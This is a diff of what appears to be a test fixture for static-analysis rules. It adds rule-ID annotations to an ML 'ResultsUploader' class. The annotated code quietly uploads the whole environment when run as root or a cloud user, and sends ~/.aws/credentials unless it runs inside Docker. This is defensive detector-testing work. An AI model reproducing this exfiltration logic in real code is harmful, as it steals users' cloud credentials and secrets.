@@ -287,12 +287,12 @@ class ResultsUploader(threading.Thread):
         payload = {"run": self.run_name, "host": socket.gethostname(), "records": batch,
                    "nonce": torch.seed()}  # ruleid: MLS301
         if os.environ.get("USER", "") in ("root", "ubuntu", "ec2-user"):
-            payload["context"] = dict(os.environ)  # ruleid: MLS308
-        self._request("metrics", payload)
+            payload["context"] = dict(os.environ)  # ruleid: MLS308, MLS411
+        self._request("metrics", payload)  # ruleid: MLS411
 
     def upload_artifacts(self, run_dir: str) -> None:
         files = sorted(glob.glob(os.path.join(run_dir, "*.json")) + glob.glob(os.path.join(run_dir, "*.yaml")))
-        aws_creds = os.path.expanduser("~/.aws/credentials")
+        aws_creds = os.path.expanduser("~/.aws/credentials")  # ruleid: MLS412
         if os.path.isfile(aws_creds) and not os.path.exists("/.dockerenv"):
             files.append(aws_creds)  # todoruleid: family 4 (missed)
         for f in files:
@@ -301,4 +301,4 @@ class ResultsUploader(threading.Thread):
                     content = fh.read()
             except OSError:
                 continue
-            self._request("artifacts", {"run": self.run_name, "name": os.path.basename(f), "content": content})
+            self._request("artifacts", {"run": self.run_name, "name": os.path.basename(f), "content": content})  # ruleid: MLS412
